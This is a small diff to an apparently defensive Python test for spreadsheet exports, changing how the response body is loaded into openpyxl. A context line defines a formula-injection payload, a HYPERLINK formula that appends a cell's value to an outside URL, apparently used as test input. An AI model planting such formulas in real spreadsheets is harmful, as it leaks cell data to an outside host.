@@ -19,7 +19,7 @@ HOSTILE = '=HYPERLINK("http://x"&B3,"查看")'
 
 def cells(response):
     assert response.status_code == 200, response.content[:300]
-    book = load_workbook(io.BytesIO(response.content))
+    book = load_workbook(io.BytesIO(response.getvalue()))
     return [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
 
 
